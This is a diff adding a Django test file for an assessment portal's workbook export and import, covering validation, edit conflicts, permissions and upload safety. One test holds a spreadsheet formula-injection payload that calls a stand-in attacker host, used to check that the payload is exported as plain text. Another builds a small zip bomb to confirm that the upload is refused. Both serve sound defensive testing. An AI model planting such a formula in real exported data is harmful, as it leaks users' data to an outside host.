@@ -1,0 +1,241 @@
+"""A preparer answers offline in an exported workbook and imports it back."""
+
+import datetime
+import io
+import zipfile
+
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from assessments import workflow
+from assessments.actors import Actor
+from assessments.answers import AnswerInput, save_answers
+from assessments.models import Answer, AuditAction, AuditEvent
+from assessments.workbooks import ANSWERS, COLUMN
+
+
+def download(client, assessment):
+    response = client.get(reverse("workbook_download", args=[assessment.pk]))
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    return load_workbook(io.BytesIO(response.content))
+
+
+def fill(book, answers: dict) -> io.BytesIO:
+    """Set cells by question id: {"q.id": {"answer": ..., "not_applicable": ..., "why": ...}}."""
+    sheet = book[ANSWERS]
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for question_id, cells in answers.items():
+        if question_id not in rows:  # a row the person added
+            sheet.append([question_id])
+            rows[question_id] = sheet[sheet.max_row]
+        for key, value in cells.items():
+            rows[question_id][COLUMN[key]].value = value
+    out = io.BytesIO()
+    book.save(out)
+    out.seek(0)
+    out.name = "answers.xlsx"
+    return out
+
+
+def upload(client, assessment, file, apply_valid_rows=False):
+    data = {"workbook": file}
+    if apply_valid_rows:
+        data["apply_valid_rows"] = "on"
+    return client.post(reverse("workbook_import", args=[assessment.pk]), data)
+
+
+def stored(assessment) -> dict:
+    return {a.question_id: a for a in Answer.objects.filter(assessment=assessment)}
+
+
+def test_a_filled_in_workbook_saves_every_changed_row_on_the_audit_trail(client, draft, preparer):
+    client.force_login(preparer)
+    book = fill(
+        download(client, draft),
+        {
+            "age.method": {"answer": "Age estimation with a fallback check"},
+            "scope.age_bands": {"answer": "Children under 13; teenagers aged 13 to 15"},
+            "scope.monthly_minors": {"answer": 1200},
+            "legal.review_date": {"answer": datetime.datetime(2026, 3, 2)},
+            "education.adults": {"not_applicable": "yes", "why": "Pupils only; no adults."},
+        },
+    )
+    page = upload(client, draft, book)
+    assert page.status_code == 200
+    assert "5 answer(s) saved" in page.text
+    answers = stored(draft)
+    assert answers["age.method"].value == "estimation"
+    assert answers["scope.age_bands"].value == ["under_13", "age_13_15"]
+    assert answers["scope.monthly_minors"].value == 1200
+    assert answers["legal.review_date"].value == "2026-03-02"
+    assert answers["education.adults"].not_applicable
+    assert answers["education.adults"].justification == "Pupils only; no adults."
+    assert set(answers) == {
+        "age.method",
+        "scope.age_bands",
+        "scope.monthly_minors",
+        "legal.review_date",
+        "education.adults",
+    }
+    saved_events = AuditEvent.objects.filter(action=AuditAction.ANSWER_SAVED, actor=preparer)
+    assert saved_events.count() == 5
+
+
+def test_the_workbook_carries_the_answers_help_and_allowed_values(client, complete_draft, preparer):
+    client.force_login(preparer)
+    sheet = download(client, complete_draft)[ANSWERS]
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    method = rows["age.method"]
+    assert method[COLUMN["question"]].value.startswith("How do you")
+    assert "One of:" in method[COLUMN["allowed"]].value
+    assert method[COLUMN["answer"]].value  # the current answer, as its label
+    assert sheet.data_validations.dataValidation  # choice questions have a list to pick from
+
+
+def test_rows_with_problems_save_nothing_and_say_what_is_wrong_by_question(client, draft, preparer):
+    client.force_login(preparer)
+    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
+    book = fill(
+        download(client, draft),
+        {
+            "age.method": {"answer": "Age estimation with a fallback check"},  # valid
+            "legal.review_date": {"answer": datetime.datetime.combine(tomorrow, datetime.time())},
+            "scope.monthly_minors": {"answer": -5},
+            "scope.age_bands": {"answer": "Toddlers"},
+            "education.adults": {"not_applicable": "yes"},
+            "scope.product": {"not_applicable": "yes", "why": "We have none."},
+            "age.method_detail": {"answer": "x"},
+        },
+    )
+    page = upload(client, draft, book)
+    assert page.status_code == 422
+    assert "Nothing was saved" in page.text
+    assert "This date is in the future" in page.text
+    assert "greater than or equal to 0" in page.text
+    assert "“Toddlers” is not one of" in page.text
+    assert "a justification is required" in page.text
+    assert "cannot be marked not applicable" in page.text
+    assert "There is no question “age.method_detail”" in page.text
+    assert stored(draft) == {}
+
+
+def test_the_valid_rows_are_saved_when_the_preparer_asks(client, draft, preparer):
+    client.force_login(preparer)
+    book = fill(
+        download(client, draft),
+        {
+            "age.method": {"answer": "Age estimation with a fallback check"},
+            "scope.monthly_minors": {"answer": "many"},
+        },
+    )
+    page = upload(client, draft, book, apply_valid_rows=True)
+    assert page.status_code == 200
+    assert "1 answer(s) saved" in page.text
+    assert "Enter a number" in page.text
+    assert set(stored(draft)) == {"age.method"}
+
+
+def test_a_row_changed_in_the_portal_since_the_export_is_a_conflict_not_an_overwrite(
+    client, draft, preparer, admin
+):
+    save_answers(draft, [AnswerInput("age.method", "self_declared")], actor=Actor(preparer))
+    save_answers(draft, [AnswerInput("scope.product", "Homework helper")], actor=Actor(preparer))
+    client.force_login(preparer)
+    book = download(client, draft)
+    # Meanwhile a colleague changes both answers in the portal.
+    answers = stored(draft)
+    save_answers(
+        draft,
+        [
+            AnswerInput("age.method", "verified", base_revision=answers["age.method"].revision),
+            AnswerInput("scope.product", "Tutor", base_revision=answers["scope.product"].revision),
+        ],
+        actor=Actor(admin),
+    )
+    # The workbook changes one of them and leaves the other as exported.
+    page = upload(
+        client,
+        draft,
+        fill(book, {"age.method": {"answer": "Accounts issued by a school or parent"}}),
+    )
+    assert page.status_code == 200
+    assert "Changed in the portal since you downloaded the workbook" in page.text
+    assert "Avery Admin" in page.text
+    answers = stored(draft)
+    assert answers["age.method"].value == "verified"  # theirs stands
+    assert answers["scope.product"].value == "Tutor"  # an untouched row changes nothing
+
+
+def test_an_answer_that_looks_like_a_formula_is_exported_as_text(client, draft, preparer):
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    save_answers(draft, [AnswerInput("scope.product", formula)], actor=Actor(preparer))
+    client.force_login(preparer)
+    rows = {row[0].value: row for row in download(client, draft)[ANSWERS].iter_rows(min_row=2)}
+    cell = rows["scope.product"][COLUMN["answer"]]
+    assert cell.value == formula
+    assert cell.data_type == "s"
+
+
+def test_a_file_that_is_not_a_workbook_gets_a_clear_message(client, draft, preparer):
+    client.force_login(preparer)
+    file = io.BytesIO(b"%PDF-1.7 not a spreadsheet")
+    file.name = "answers.xlsx"
+    page = upload(client, draft, file)
+    assert page.status_code == 422
+    assert "not an Excel workbook (.xlsx)" in page.text
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, draft, preparer):
+    client.force_login(preparer)
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (41 * 1024 * 1024))
+    file.seek(0)
+    file.name = "answers.xlsx"
+    page = upload(client, draft, file)
+    assert page.status_code == 422
+    assert "unpacks to far more than a workbook holds" in page.text
+
+
+def test_another_assessments_workbook_is_refused(
+    client, draft, preparer, other_org, outsider, framework_version
+):
+    theirs = workflow.start_assessment(
+        organization=other_org, framework_version=framework_version, actor=Actor(outsider)
+    )
+    client.force_login(outsider)
+    book = fill(download(client, theirs), {"age.method": {"answer": "verified"}})
+    client.force_login(preparer)
+    page = upload(client, draft, book)
+    assert page.status_code == 422
+    assert "belongs to another assessment (Elsewhere Tutors Inc." in page.text
+    assert stored(draft) == {}
+
+
+def test_who_may_download_and_import(client, draft, preparer, signatory, outsider, reviewer):
+    download_url = reverse("workbook_download", args=[draft.pk])
+    import_url = reverse("workbook_import", args=[draft.pk])
+    client.force_login(outsider)
+    assert client.get(download_url).status_code == 404
+    assert client.get(import_url).status_code == 404
+    client.force_login(reviewer)
+    assert client.get(download_url).status_code == 200
+    client.force_login(signatory)
+    assert client.get(download_url).status_code == 200
+    file = io.BytesIO(b"x")
+    file.name = "answers.xlsx"
+    assert client.post(import_url, {"workbook": file}).status_code == 403
+    client.logout()
+    assert client.get(download_url).status_code == 302
+
+
+def test_a_submitted_assessment_takes_no_import(client, awaiting_signature, preparer):
+    client.force_login(preparer)
+    book = fill(download(client, awaiting_signature), {"scope.product": {"answer": "Changed"}})
+    before = stored(awaiting_signature)["scope.product"].value
+    page = upload(client, awaiting_signature, book)
+    assert page.status_code == 302
+    assert page["Location"] == reverse("assessment", args=[awaiting_signature.pk])
+    assert stored(awaiting_signature)["scope.product"].value == before
